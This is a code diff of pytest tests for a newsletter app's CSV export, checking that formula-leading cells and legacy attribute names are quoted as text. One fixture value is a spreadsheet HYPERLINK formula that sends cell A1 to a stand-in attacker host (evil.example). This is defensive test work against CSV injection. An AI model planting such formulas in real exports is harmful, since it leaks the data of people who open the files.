@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
-from sqlalchemy import delete, select
+from sqlalchemy import delete, select, update
 
 from newsletter.audience import csv_rows
 from newsletter.audience.csv_export import export_csv
@@ -67,15 +67,16 @@ def test_quote_and_unquote_are_inverse(value: str) -> None:
 
 def test_import_reads_the_quote_and_keeps_what_it_protects(store, hostile: Path) -> None:
     people = _people(store)
-    assert people["=cmd@example.com"][1] == {"phone": "+1 555 0100", "@handle": "@ann"}
+    # the header's '@handle' is the attribute name handle (names are lower_snake)
+    assert people["=cmd@example.com"][1] == {"phone": "+1 555 0100", "handle": "@ann"}
     assert people["-dash@example.com"][1]["phone"] == "=already"  # the file's ' came off
-    assert people["plain@example.com"] == ("'=two quotes", {"phone": "'plain", "@handle": "x"})
+    assert people["plain@example.com"] == ("'=two quotes", {"phone": "'plain", "handle": "x"})
 
 
 def test_export_writes_no_live_formula_in_any_column(store, hostile: Path) -> None:
     text = _export(store)
     rows = list(csv.reader(io.StringIO(text)))
-    assert rows[0] == ["email", "name", "status", "joined_at", "phone", "'@handle"]
+    assert rows[0] == ["email", "name", "status", "joined_at", "phone", "handle"]
     for row in rows:
         for cell in row:
             assert cell[:1] not in FORMULA, (row, cell)
@@ -86,6 +87,17 @@ def test_export_writes_no_live_formula_in_any_column(store, hostile: Path) -> No
     assert by_email["'-dash@example.com"][4] == "'=already"
     assert by_email["plain@example.com"][1] == "''=two quotes"
     assert by_email["plain@example.com"][4] == "'plain"  # not before a formula: as stored
+
+
+def test_export_quotes_an_attribute_name_stored_by_an_older_release(store, hostile: Path) -> None:
+    """Imports before lower_snake names kept a header such as '@handle' as it was: export
+    still writes such a name as text."""
+    s = tables.subscribers
+    with store.begin() as conn:
+        conn.execute(update(s).where(s.c.email == "at@example.com").values(attributes={"@x": "1"}))
+    rows = list(csv.reader(io.StringIO(_export(store))))
+    assert rows[0][-1] == "'@x"
+    assert all(cell[:1] not in FORMULA for cell in rows[0])
 
 
 def test_export_then_import_round_trips_exactly(store, hostile: Path, tmp_path: Path) -> None:
@@ -102,7 +114,7 @@ def test_export_then_import_round_trips_exactly(store, hostile: Path, tmp_path: 
 
 def test_raw_export_writes_cells_as_stored(store, hostile: Path) -> None:
     rows = list(csv.reader(io.StringIO(_export(store, raw=True))))
-    assert rows[0][-1] == "@handle"
+    assert rows[0][-1] == "handle"
     names = {r[0]: r[1] for r in rows[1:]}
     assert names["=cmd@example.com"] == '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     assert names["+plus@example.com"] == "-Minus"
